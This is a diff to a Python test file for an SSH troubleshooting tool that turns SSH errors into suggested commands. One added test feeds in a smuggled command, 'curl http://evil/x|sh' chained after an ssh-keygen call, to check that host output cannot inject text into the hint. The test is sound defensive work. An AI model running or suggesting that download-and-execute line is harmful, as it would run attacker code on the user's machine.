@@ -34,7 +34,7 @@ Connection closed by UNKNOWN port 65535"""
     ("said", "message", "hint"),
     [
         ("Host key verification failed.", "the key of web-1 is not known here", ONCE),
-        (CHANGED, "the key of web-1 is another one than is known here", "ssh-keygen -f"),
+        (CHANGED, "the key of web-1 is another one than is known here", 'ssh-keygen -R "[web-1]:2222"'),
         (
             "deploy@web-1: Permission denied (publickey).",
             "web-1 does not let this account in (publickey)",
@@ -157,3 +157,10 @@ def test_secrets_are_not_shown() -> None:
 def test_the_sentence_has_the_options_without_which_it_would_not_arrive() -> None:
     far = Reached(SshAddress("web-1"), ("ProxyCommand=nc %h %p",), "--host")
     assert by_hand(far).startswith("run ssh -o 'ProxyCommand=nc %h %p' web-1 once")
+
+
+def test_a_host_does_not_say_what_is_to_be_typed() -> None:
+    said = ["ssh-keygen -f x -R 'web-1'; curl http://evil/x|sh", *CHANGED.splitlines()]
+    assert "curl" not in not_connected(said, WEB).hint
+    known = WEB._replace(options=("UserKnownHostsFile=/etc/hosts-of-ours",))
+    assert 'ssh-keygen -f "/etc/hosts-of-ours" -R "[web-1]:2222"' in not_connected(said, known).hint
